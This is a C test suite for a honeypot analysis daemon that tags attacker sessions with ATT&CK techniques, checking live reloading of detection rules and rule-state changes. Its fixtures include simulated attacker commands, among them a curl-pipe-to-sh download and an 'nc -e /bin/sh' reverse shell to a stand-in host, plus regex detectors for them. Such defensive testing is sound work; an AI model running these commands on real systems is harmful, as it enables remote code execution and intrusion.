/*
 * Rules at runtime: a real nats-server and the real daemon, events
 * flowing, while rule files are edited, added, renamed, broken, duplicated
 * and deleted, and while ttpctl changes rule states.  Every step waits for
 * the daemon's ttp.rule.reloaded.<id> / ttp.rule.state.<id> message (with
 * a deadline) and then checks, with events published after it, which
 * rules fire.
 */
#include "config.h"

#include <check.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "json.h"
#include "natsfx.h"
#include "testutil.h"

#define WAIT_MS 15000

/* A session envelope for sess-<n> with the given commands. */
static void
pub_session(struct fx *f, int n, const char *cmd1, const char *cmd2)
{
	char *s;

	ck_assert(asprintf(&s,
	    "{\"v\":1,\"id\":\"%032x\",\"topic\":\"attacker.session.ended\","
	    "\"type\":\"session.ended\",\"ts\":1700000000.5,\"payload\":{"
	    "\"session_id\":\"sess-%d\",\"attacker_uuid\":\"att-%d\","
	    "\"attacker_ip\":\"10.0.0.%d\",\"decky_id\":\"decky-1\","
	    "\"commands\":[\"%s\"%s%s%s]}}", (unsigned)n + 0x1000, n, n,
	    n % 250, cmd1, cmd2 != NULL ? ",\"" : "", cmd2 != NULL ? cmd2 :
	    "", cmd2 != NULL ? "\"" : "") > 0);
	fx_pub_str(f, "attacker.session.ended", s);
	free(s);
}

/* Rows of a session with a rule (and a version, when >= 0). */
static long
rows(struct fx *f, int sess, const char *rule, long version)
{
	char sql[256];

	if (version >= 0)
		snprintf(sql, sizeof sql, "SELECT count(*) FROM ttp_tag WHERE "
		    "session_id='sess-%d' AND rule_id='%s' AND "
		    "rule_version=%ld", sess, rule, version);
	else
		snprintf(sql, sizeof sql, "SELECT count(*) FROM ttp_tag WHERE "
		    "session_id='sess-%d' AND rule_id='%s'", sess, rule);
	return fx_count(f, sql);
}

/* 1 once the session has a row of that rule version (deadline). */
static int
wait_rows(struct fx *f, int sess, const char *rule, long version)
{
	char sql[256];

	snprintf(sql, sizeof sql, "SELECT count(*) > 0 FROM ttp_tag WHERE "
	    "session_id='sess-%d' AND rule_id='%s' AND rule_version=%ld",
	    sess, rule, version);
	return (int)fx_wait_count(f, sql, 1, WAIT_MS / 1000);
}

/*
 * The next message whose subject starts with prefix (others skipped),
 * checked as a DECNET envelope of type "" on that subject; its payload
 * (the whole envelope is returned; free with jv_decref).
 */
static ttpd_value *
next_rule_msg(struct fx *f, const char *prefix, char *subject, size_t len)
{
	int64_t ver;
	natsMsg *m;
	ttpd_value *v;

	for (;;) {
		m = fx_next_out(f, WAIT_MS);
		if (m == NULL) {
			char *log = fx_ttpd_log(f, 0);

			ck_abort_msg("no %s message within %d ms; daemon log:"
			    "\n%s", prefix, WAIT_MS, log);
		}
		if (strncmp(natsMsg_GetSubject(m), prefix,
		    strlen(prefix)) == 0)
			break;
		natsMsg_Destroy(m);
	}
	snprintf(subject, len, "%s", natsMsg_GetSubject(m));
	v = jv_parse(natsMsg_GetData(m), (size_t)natsMsg_GetDataLength(m),
	    NULL, 0);
	ck_assert_msg(v != NULL, "not JSON: %s", natsMsg_GetData(m));
	natsMsg_Destroy(m);
	ck_assert(jv_get_int(jv_object_get(v, "v"), &ver) == TTPD_OK &&
	    ver == 1);
	ck_assert_str_eq(jv_string(jv_object_get(v, "topic")), subject);
	ck_assert_str_eq(jv_string(jv_object_get(v, "type")), "");
	ck_assert(strlen(jv_string(jv_object_get(v, "id"))) == 32);
	ck_assert(jv_type(jv_object_get(v, "payload")) == TTPD_VT_OBJECT);
	return v;
}

/* Expect ttp.rule.reloaded.<id> {rule_id, rule_version: version}, or
 * {rule_id, deleted: true} with version -1. */
static void
expect_reloaded(struct fx *f, const char *id, long version)
{
	char subject[256], want[256];
	const ttpd_value *p;
	ttpd_value *v;
	int64_t got;
	int b;

	v = next_rule_msg(f, "ttp.rule.reloaded.", subject, sizeof subject);
	snprintf(want, sizeof want, "ttp.rule.reloaded.%s", id);
	ck_assert_str_eq(subject, want);
	p = jv_object_get(v, "payload");
	ck_assert_int_eq(jv_object_size(p), 2);
	ck_assert_str_eq(jv_string(jv_object_get(p, "rule_id")), id);
	if (version >= 0) {
		ck_assert(jv_type(jv_object_get(p, "rule_version")) ==
		    TTPD_VT_INT);
		ck_assert(jv_get_int(jv_object_get(p, "rule_version"),
		    &got) == TTPD_OK);
		ck_assert_int_eq(got, version);
	} else {
		ck_assert(jv_get_bool(jv_object_get(p, "deleted"), &b) ==
		    TTPD_OK && b == 1);
	}
	jv_decref(v);
}

/* Expect ttp.rule.state.<id> {rule_id, state, set_by} (state NULL:
 * {rule_id, auto_revert: true}). */
static void
expect_state(struct fx *f, const char *id, const char *state,
    const char *set_by)
{
	char subject[256], want[256];
	const ttpd_value *p;
	ttpd_value *v;
	int b;

	v = next_rule_msg(f, "ttp.rule.state.", subject, sizeof subject);
	snprintf(want, sizeof want, "ttp.rule.state.%s", id);
	ck_assert_str_eq(subject, want);
	p = jv_object_get(v, "payload");
	ck_assert_int_eq(jv_object_size(p), state != NULL ? 3 : 2);
	ck_assert_str_eq(jv_string(jv_object_get(p, "rule_id")), id);
	if (state != NULL) {
		ck_assert_str_eq(jv_string(jv_object_get(p, "state")), state);
		if (set_by != NULL)
			ck_assert_str_eq(jv_string(jv_object_get(p,
			    "set_by")), set_by);
		else
			ck_assert(jv_string(jv_object_get(p, "set_by")) !=
			    NULL);
	} else
		ck_assert(jv_get_bool(jv_object_get(p, "auto_revert"),
		    &b) == TTPD_OK && b == 1);
	jv_decref(v);
}

static void
rule_file(struct fx *f, const char *name, const char *text)
{
	char path[1024];

	snprintf(path, sizeof path, "%s/rules/%s", f->dir, name);
	tu_write_file(path, text);
}

/* What an editor does: write a temporary file, rename it over. */
static void
rule_file_atomic(struct fx *f, const char *name, const char *text)
{
	char tmp[1024], path[1024];

	snprintf(tmp, sizeof tmp, "%s/rules/.%s.swp", f->dir, name);
	snprintf(path, sizeof path, "%s/rules/%s", f->dir, name);
	tu_write_file(tmp, text);
	ck_assert(rename(tmp, path) == 0);
}

static void
rule_rename(struct fx *f, const char *from, const char *to)
{
	char a[1024], b[1024];

	snprintf(a, sizeof a, "%s/rules/%s", f->dir, from);
	snprintf(b, sizeof b, "%s/rules/%s", f->dir, to);
	ck_assert(rename(a, b) == 0);
}

static void
rule_unlink(struct fx *f, const char *name)
{
	char path[1024];

	snprintf(path, sizeof path, "%s/rules/%s", f->dir, name);
	ck_assert(unlink(path) == 0);
}

static const char wget_v2[] =
    "rule_id: TI0001\nrule_version: 2\nname: wget\n"
    "applies_to: [command]\n"
    "match:\n  field: command_text\n  pattern: '\\bwget\\b'\n"
    "emits:\n  - tactic: TA0011\n    technique_id: T1105\n"
    "    confidence: 0.9\nevidence_fields: [command_text]\n";
/* line 2 is wrong */
static const char wget_broken[] =
    "rule_id: TI0001\nrule_version: three\nname: wget\n"
    "applies_to: [command]\n"
    "match:\n  field: command_text\n  pattern: '\\bwget\\b'\n"
    "emits:\n  - tactic: TA0011\n    technique_id: T1105\n"
    "    confidence: 0.9\n";
static const char nc_v1[] =
    "rule_id: TI0003\nrule_version: 1\nname: nc\n"
    "applies_to: [command]\n"
    "match:\n  field: command_text\n  pattern: '\\bnc\\b'\n"
    "emits:\n  - tactic: TA0011\n    technique_id: T1095\n"
    "    confidence: 0.8\n";
static const char nc_dup_v7[] =
    "rule_id: TI0003\nrule_version: 7\nname: nc again\n"
    "applies_to: [command]\n"
    "match:\n  field: command_text\n  pattern: '\\bnc\\b'\n"
    "emits:\n  - tactic: TA0011\n    technique_id: T1095\n"
    "    confidence: 0.7\n";

#define WGET "wget http://198.51.100.7/x"
#define CURL_SH "curl http://198.51.100.7/y | sh"
#define NC "nc -e /bin/sh 198.51.100.7 4444"

START_TEST(test_rule_files_at_runtime)
{
	struct fx f;
	char *log, want[1024];

	fx_setup(&f, NULL, NULL);
	fx_ttpd_start(&f, 0, 1);
	pub_session(&f, 1, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, 1, "TI0001", 1), 1);

	/* edit, editor style: version 2 is what new events get */
	rule_file_atomic(&f, "TI0001.yaml", wget_v2);
	expect_reloaded(&f, "TI0001", 2);
	pub_session(&f, 2, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, 2, "TI0001", 2), 1);
	ck_assert_int_eq(rows(&f, 2, "TI0001", 1), 0);
	ck_assert(fx_wait_log(&f, 0, "rule TI0001 reloaded from", 5));

	/* a broken edit: file:line logged, version 2 keeps firing */
	rule_file(&f, "TI0001.yaml", wget_broken);
	snprintf(want, sizeof want, "%s/rules/TI0001.yaml:2:", f.dir);
	ck_assert_msg(fx_wait_log(&f, 0, want, WAIT_MS / 1000),
	    "no '%s' in the log", want);
	ck_assert(fx_wait_log(&f, 0, "rule TI0001 version 2 from this file "
	    "keeps running", 5));
	pub_session(&f, 3, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, 3, "TI0001", 2), 1);
	ck_assert_int_eq(fx_count(&f, "SELECT count(*) FROM ttp_tag WHERE "
	    "rule_id='TI0001' AND rule_version=3"), 0);

	/* a new rule file */
	rule_file(&f, "TI0003.yaml", nc_v1);
	expect_reloaded(&f, "TI0003", 1);
	pub_session(&f, 4, NC, NULL);
	ck_assert_int_eq(wait_rows(&f, 4, "TI0003", 1), 1);

	/* a second file with the same rule_id is refused, naming both */
	rule_file(&f, "TI0009.yaml", nc_dup_v7);
	snprintf(want, sizeof want, "%s/rules/TI0009.yaml:1: rule_id TI0003 "
	    "is already defined in %s/rules/TI0003.yaml:1", f.dir, f.dir);
	ck_assert_msg(fx_wait_log(&f, 0, want, WAIT_MS / 1000),
	    "no '%s' in the log", want);
	pub_session(&f, 5, NC, NULL);
	ck_assert_int_eq(wait_rows(&f, 5, "TI0003", 1), 1);
	ck_assert_int_eq(rows(&f, 5, "TI0003", 7), 0);

	/* a rename is a removal and an addition */
	rule_rename(&f, "TI0003.yaml", "TI0004.yaml");
	expect_reloaded(&f, "TI0003", -1);
	expect_reloaded(&f, "TI0003", 1);
	pub_session(&f, 6, NC, NULL);
	ck_assert_int_eq(wait_rows(&f, 6, "TI0003", 1), 1);

	/* deleting the file removes the rule; the refused duplicate
	 * TI0009.yaml then gets its turn */
	rule_unlink(&f, "TI0004.yaml");
	expect_reloaded(&f, "TI0003", -1);
	expect_reloaded(&f, "TI0003", 7);
	pub_session(&f, 7, NC, NULL);
	ck_assert_int_eq(wait_rows(&f, 7, "TI0003", 7), 1);

	/* a deleted rule stops firing: TI0002 fires on the same message */
	rule_unlink(&f, "TI0002.yaml");
	expect_reloaded(&f, "TI0002", -1);
	pub_session(&f, 8, CURL_SH, WGET);
	ck_assert_int_eq(wait_rows(&f, 8, "TI0001", 2), 1);
	ck_assert_int_eq(rows(&f, 8, "TI0002", -1), 0);

	/* a version its plugin rejects (the regex does not compile) */
	rule_file(&f, "TI0001.yaml",
	    "rule_id: TI0001\nrule_version: 8\nname: wget\n"
	    "applies_to: [command]\n"
	    "match:\n  field: command_text\n  pattern: 'wget('\n"
	    "emits:\n  - tactic: TA0011\n    technique_id: T1105\n"
	    "    confidence: 0.9\n");
	snprintf(want, sizeof want, "%s/rules/TI0001.yaml:1: rule TI0001: "
	    "rejected by plugin rule_engine: ", f.dir);
	ck_assert_msg(fx_wait_log(&f, 0, want, WAIT_MS / 1000),
	    "no '%s' in the log", want);
	pub_session(&f, 10, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, 10, "TI0001", 2), 1);

	/* a version no loaded plugin owns: the rule leaves its plugin and
	 * is inert; then back to the engine */
	rule_file(&f, "TI0001.yaml",
	    "rule_id: TI0001\nrule_version: 9\nname: wget\n"
	    "applies_to: [command]\nmatch:\n  kind: lifter:nobody_here\n"
	    "emits:\n  - tactic: TA0011\n    technique_id: T1105\n"
	    "    confidence: 0.9\n");
	expect_reloaded(&f, "TI0001", 9);
	ck_assert(fx_wait_log(&f, 0, "rule TI0001: match.kind "
	    "'lifter:nobody_here' belongs to no loaded plugin", 5));
	pub_session(&f, 11, NC, WGET);
	ck_assert_int_eq(wait_rows(&f, 11, "TI0003", 7), 1);
	ck_assert_int_eq(rows(&f, 11, "TI0001", -1), 0);
	rule_file_atomic(&f, "TI0001.yaml", wget_v2);
	expect_reloaded(&f, "TI0001", 2);
	pub_session(&f, 12, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, 12, "TI0001", 2), 1);

	/* SIGHUP re-reads everything and refuses the broken TI0001.yaml
	 * (the running rules stay); fixed, with the content that is
	 * running (no reload message for it), SIGHUP succeeds, and the
	 * directory is still watched */
	rule_file(&f, "TI0001.yaml", wget_broken);
	kill(f.ttpd_pid[0], SIGHUP);
	ck_assert(fx_wait_log(&f, 0, "reload failed: keeping the running",
	    WAIT_MS / 1000));
	rule_file(&f, "TI0001.yaml", wget_v2);
	kill(f.ttpd_pid[0], SIGHUP);
	ck_assert(fx_wait_log(&f, 0, "configuration, plugins and rules "
	    "reloaded from", WAIT_MS / 1000));
	rule_file_atomic(&f, "TI0002.yaml",
	    "rule_id: TI0002\nrule_version: 5\nname: curl_sh\n"
	    "applies_to: [command]\n"
	    "match:\n  field: command_text\n  pattern: 'curl .*\\| *sh'\n"
	    "emits:\n  - tactic: TA0002\n    technique_id: T1059\n"
	    "    sub_technique_id: T1059.004\n    confidence: 0.6\n");
	expect_reloaded(&f, "TI0002", 5);
	pub_session(&f, 9, CURL_SH, NULL);
	ck_assert_int_eq(wait_rows(&f, 9, "TI0002", 5), 1);

	ck_assert(fx_ttpd_alive(&f, 0));
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	log = fx_ttpd_log(&f, 0);
	ck_assert_msg(strstr(log, "ERROR: AddressSanitizer") == NULL &&
	    strstr(log, "runtime error") == NULL, "%s", log);
	/* the editor's temporary .TI0001.yaml.swp was never looked at */
	ck_assert_msg(strstr(log, ".swp") == NULL, "%s", log);
	free(log);
	fx_teardown(&f);
}
END_TEST

/* TI0001 version k: odd versions emit T1105, even ones T1071, and the
 * confidence is 0.5 + k/20, so a tag shows which whole version made it. */
static void
write_versioned(struct fx *f, int k, int atomic)
{
	char text[1024];

	snprintf(text, sizeof text,
	    "rule_id: TI0001\nrule_version: %d\nname: wget v%d\n"
	    "applies_to: [command]\n"
	    "match:\n  field: command_text\n  pattern: '\\bwget\\b'\n"
	    "emits:\n  - tactic: TA0011\n    technique_id: %s\n"
	    "    confidence: %.2f\n", k, k, k % 2 ? "T1105" : "T1071",
	    0.5 + k * 0.05);
	if (atomic)
		rule_file_atomic(f, "TI0001.yaml", text);
	else
		rule_file(f, "TI0001.yaml", text);
}

START_TEST(test_swaps_while_events_flow)
{
	struct fx f;
	int k, j, n = 0;

	fx_setup(&f, NULL, NULL);
	fx_ttpd_start(&f, 0, 1);
	/* events keep coming while the rule is rewritten five times (in
	 * place and editor style): every event gets exactly one tag, from
	 * one whole version */
	for (k = 2; k <= 6; k++) {
		write_versioned(&f, k, k % 2);
		for (j = 0; j < 40; j++) {
			n++;
			pub_session(&f, n, WGET, NULL);
		}
	}
	ck_assert_int_eq(fx_wait_count(&f, "SELECT count(DISTINCT session_id) "
	    "FROM ttp_tag WHERE rule_id='TI0001'", n, WAIT_MS / 1000), n);
	ck_assert_int_eq(fx_count(&f, "SELECT count(*) FROM ttp_tag WHERE "
	    "rule_id='TI0001'"), n);
	ck_assert_int_eq(fx_count(&f, "SELECT count(*) FROM ttp_tag WHERE "
	    "rule_id='TI0001' AND rule_version > 1 AND (technique_id != "
	    "CASE rule_version % 2 WHEN 1 THEN 'T1105' ELSE 'T1071' END OR "
	    "abs(confidence - (0.5 + rule_version * 0.05)) > 1e-9)"), 0);
	/* the last version is the one in force once announced (bursts
	 * may have skipped some versions) */
	for (;;) {
		char subject[256];
		ttpd_value *v = next_rule_msg(&f, "ttp.rule.reloaded.TI0001",
		    subject, sizeof subject);
		int64_t ver = 0;

		jv_get_int(jv_object_get(jv_object_get(v, "payload"),
		    "rule_version"), &ver);
		jv_decref(v);
		if (ver == 6)
			break;
	}
	n++;
	pub_session(&f, n, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, n, "TI0001", 6), 1);
	ck_assert(fx_ttpd_alive(&f, 0));
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	fx_teardown(&f);
}
END_TEST

START_TEST(test_rules_dir_replaced)
{
	struct fx f;
	char a[1024], b[1024], c[1024];

	fx_setup(&f, NULL, NULL);
	fx_ttpd_start(&f, 0, 1);
	/* the new generation of the directory, prepared beside it */
	snprintf(a, sizeof a, "%s/rules", f.dir);
	snprintf(b, sizeof b, "%s/rules.old", f.dir);
	snprintf(c, sizeof c, "%s/rules.new", f.dir);
	ck_assert(mkdir(c, 0755) == 0);
	snprintf(c, sizeof c, "%s/rules.new/TI0001.yaml", f.dir);
	tu_write_file(c, wget_v2);
	snprintf(c, sizeof c, "%s/rules.new", f.dir);

	/* moved away: the rules keep running */
	ck_assert(rename(a, b) == 0);
	ck_assert(fx_wait_log(&f, 0, "/rules was moved away; its rules keep "
	    "running", WAIT_MS / 1000));
	pub_session(&f, 1, CURL_SH, WGET);
	ck_assert_int_eq(wait_rows(&f, 1, "TI0001", 1), 1);
	ck_assert_int_eq(wait_rows(&f, 1, "TI0002", 1), 1);

	/* back, with other contents: rescanned */
	ck_assert(rename(c, a) == 0);
	expect_reloaded(&f, "TI0002", -1);
	expect_reloaded(&f, "TI0001", 2);
	ck_assert(fx_wait_log(&f, 0, "/rules is back; rescanning it", 5));
	pub_session(&f, 2, CURL_SH, WGET);
	ck_assert_int_eq(wait_rows(&f, 2, "TI0001", 2), 1);
	ck_assert_int_eq(rows(&f, 2, "TI0002", -1), 0);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	tu_rmtree(b);
	fx_teardown(&f);
}
END_TEST

/* ttpctl -c conf rule ...; its exit status. */
static int
ttpctl(struct fx *f, const char *action, const char *id, const char *a1,
    const char *a2, const char *a3, const char *a4)
{
	char bin[1024];
	const char *argv[] = { bin, "-c", f->conf, "rule", action, id,
	    a1, a2, a3, a4, NULL };
	int status, fd;
	pid_t pid;

	snprintf(bin, sizeof bin, "%s/host/ttpctl", tu_env("TTPD_BUILDDIR"));
	pid = fork();
	ck_assert(pid >= 0);
	if (pid == 0) {
		if ((fd = open("/dev/null", O_WRONLY)) >= 0)
			dup2(fd, 1);
		execv(bin, (char *const *)(uintptr_t)argv);
		_exit(127);
	}
	ck_assert(waitpid(pid, &status, 0) == pid);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

/* set_by of TI0001's ttp_rule_state row (malloc'd). */
static char *
stored_set_by(struct fx *f)
{
	char path[1024], *out = NULL;
	sqlite3 *db;
	sqlite3_stmt *st;

	snprintf(path, sizeof path, "%s/ttpd.db", f->dir);
	ck_assert(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL) ==
	    SQLITE_OK);
	sqlite3_busy_timeout(db, 5000);
	ck_assert(sqlite3_prepare_v2(db, "SELECT set_by FROM ttp_rule_state "
	    "WHERE rule_id='TI0001'", -1, &st, NULL) == SQLITE_OK);
	ck_assert(sqlite3_step(st) == SQLITE_ROW);
	out = strdup((const char *)sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	sqlite3_close(db);
	return out;
}

START_TEST(test_rule_state_at_runtime)
{
	struct fx f;
	char *who;

	fx_setup(&f, NULL, NULL);
	fx_ttpd_start(&f, 0, 1);
	pub_session(&f, 1, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, 1, "TI0001", 1), 1);

	/* disable: the daemon notices by itself and says so */
	ck_assert_int_eq(ttpctl(&f, "disable", "TI0001", "--reason", "noisy",
	    NULL, NULL), 0);
	who = stored_set_by(&f);
	ck_assert(who[0] != '\0');
	expect_state(&f, "TI0001", "disabled", who);
	ck_assert(fx_wait_log(&f, 0, "rule TI0001: state disabled", 5));
	/* TI0002 fires on the same message: it was processed */
	pub_session(&f, 2, CURL_SH, WGET);
	ck_assert_int_eq(wait_rows(&f, 2, "TI0002", 1), 1);
	ck_assert_int_eq(rows(&f, 2, "TI0001", -1), 0);

	/* enable: fires again */
	ck_assert_int_eq(ttpctl(&f, "enable", "TI0001", NULL, NULL, NULL,
	    NULL), 0);
	expect_state(&f, "TI0001", "enabled", who);
	pub_session(&f, 3, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, 3, "TI0001", 1), 1);

	/* clipped below the insert floor for 2 s: nothing stored, then the
	 * state expires and reverts without a restart */
	ck_assert_int_eq(ttpctl(&f, "clip", "TI0001", "--max", "0.1",
	    "--for", "2s"), 0);
	expect_state(&f, "TI0001", "clipped", who);
	pub_session(&f, 4, CURL_SH, WGET);
	ck_assert_int_eq(wait_rows(&f, 4, "TI0002", 1), 1);
	ck_assert_int_eq(rows(&f, 4, "TI0001", -1), 0);
	expect_state(&f, "TI0001", NULL, NULL);
	ck_assert(fx_wait_log(&f, 0, "rule TI0001: state clipped expired",
	    5));
	pub_session(&f, 5, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, 5, "TI0001", 1), 1);
	ck_assert_int_eq(fx_count(&f, "SELECT count(*) FROM ttp_tag WHERE "
	    "session_id='sess-5' AND confidence > 0.79"), 1);
	free(who);

	ck_assert(fx_ttpd_alive(&f, 0));
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	fx_teardown(&f);
}
END_TEST

START_TEST(test_watch_off)
{
	struct fx f;
	char *conf, *p, *text;
	size_t len;

	fx_setup(&f, NULL, NULL);
	/* rules: { dirs = [ ... ]; watch = false; }; */
	conf = tu_read_file(f.conf, &len);
	p = strstr(conf, "]; };\nplugins");
	ck_assert(p != NULL);
	*p = '\0';
	ck_assert(asprintf(&text, "%s]; watch = false; };\nplugins%s", conf,
	    p + strlen("]; };\nplugins")) > 0);
	tu_write_file(f.conf, text);
	free(text);
	free(conf);
	fx_ttpd_start(&f, 0, 1);
	ck_assert(fx_wait_log(&f, 0, "rules.watch is false", 5));

	/* the edit waits for SIGHUP; rule states are still followed (the
	 * state message also shows the daemon went round its loop) */
	rule_file(&f, "TI0001.yaml", wget_v2);
	ck_assert_int_eq(ttpctl(&f, "disable", "TI0002", NULL, NULL, NULL,
	    NULL), 0);
	expect_state(&f, "TI0002", "disabled", NULL);
	pub_session(&f, 1, CURL_SH, WGET);
	ck_assert_int_eq(wait_rows(&f, 1, "TI0001", 1), 1);
	ck_assert_int_eq(rows(&f, 1, "TI0001", 2), 0);
	ck_assert_int_eq(rows(&f, 1, "TI0002", -1), 0);

	kill(f.ttpd_pid[0], SIGHUP);
	ck_assert(fx_wait_log(&f, 0, "configuration, plugins and rules "
	    "reloaded from", WAIT_MS / 1000));
	pub_session(&f, 2, WGET, NULL);
	ck_assert_int_eq(wait_rows(&f, 2, "TI0001", 2), 1);
	ck_assert_int_eq(fx_ttpd_stop(&f, 0, SIGTERM), 0);
	fx_teardown(&f);
}
END_TEST

static Suite *
reload_suite(void)
{
	Suite *s = suite_create("reload");
	TCase *tc = tcase_create("live");

	tcase_set_timeout(tc, 120);
	tcase_add_unchecked_fixture(tc, NULL, fx_cleanup_runner);
	tcase_add_test(tc, test_rule_files_at_runtime);
	tcase_add_test(tc, test_rule_state_at_runtime);
	tcase_add_test(tc, test_swaps_while_events_flow);
	tcase_add_test(tc, test_rules_dir_replaced);
	tcase_add_test(tc, test_watch_off);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr;
	int failed;

	fx_init_runner();
	sr = srunner_create(reload_suite());
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
